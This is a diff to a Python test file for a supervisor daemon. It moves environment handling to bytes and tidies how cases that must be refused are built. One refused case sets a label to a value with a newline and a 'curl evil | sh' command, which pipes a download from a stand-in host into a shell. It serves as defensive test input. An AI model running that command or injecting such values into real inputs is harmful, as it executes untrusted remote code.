@@ -16,7 +16,7 @@ import shlex
 import signal
 import subprocess
 import sys
-from collections.abc import Generator, Mapping
+from collections.abc import Callable, Generator, Mapping
 from pathlib import Path
 
 import psutil
@@ -39,15 +39,21 @@ def shared_manager(tmp_path_factory: pytest.TempPathFactory) -> Generator[Manage
     mgr.kill()
 
 
-def _base_env() -> dict[str | bytes, str | bytes]:
-    return {
-        k: v
-        for k, v in os.environ.items()
-        if not k.startswith((settings.ENV_PREFIX, "VAST_", "MIN_RATE", "CUZK_SIM_"))
-    }
+def _bytes_env(env: Mapping[str, str] | Mapping[bytes, bytes]) -> dict[bytes, bytes]:
+    return {os.fsencode(k): os.fsencode(v) for k, v in env.items()}
 
 
-def _run(env: Mapping[str | bytes, str | bytes]) -> subprocess.CompletedProcess[str]:
+def _base_env() -> dict[bytes, bytes]:
+    return _bytes_env(
+        {
+            k: v
+            for k, v in os.environ.items()
+            if not k.startswith((settings.ENV_PREFIX, "VAST_", "MIN_RATE", "CUZK_SIM_"))
+        }
+    )
+
+
+def _run(env: Mapping[bytes, bytes]) -> subprocess.CompletedProcess[str]:
     return subprocess.run(
         [sys.executable, "-m", "supervisor", "run"],
         env=env, capture_output=True, text=True, errors="replace", timeout=60, check=False,
@@ -71,7 +77,8 @@ def _file(tmp_path: Path, name: str, content: bytes) -> Path:
 
 
 # name -> (extra environment built from tmp_path, the fragment the one error line names)
-REFUSED = {
+Extra = Callable[[Path], Mapping[str, str] | Mapping[bytes, bytes]]
+REFUSED: dict[str, tuple[Extra, str]] = {
     "label with newline and shell metacharacters": (
         lambda t: {"CUZK_SUPERVISOR_LABEL": "C.1\n; curl evil | sh"},
         "setting label",
@@ -141,11 +148,13 @@ def test_a_bad_input_exits_2_before_register(
 ) -> None:
     build, fragment = REFUSED[case]
     before = len(shared_manager.requests())
-    extra = build(tmp_path)
-    env = {**_base_env(), **lifecycle_env(tmp_path, shared_manager.url)}
-    for key in extra:  # a bytes name replaces its text twin (else the first one wins)
-        env.pop(key.decode() if isinstance(key, bytes) else key, None)
-    env.update(extra)
+    # All as bytes, so a non-UTF-8 value replaces its setting's text value (else both are
+    # passed and the first one wins).
+    env = {
+        **_base_env(),
+        **_bytes_env(lifecycle_env(tmp_path, shared_manager.url)),
+        **_bytes_env(build(tmp_path)),
+    }
     try:
         done = _run(env)
     finally:  # a run that went ahead by mistake must not leave its daemon behind
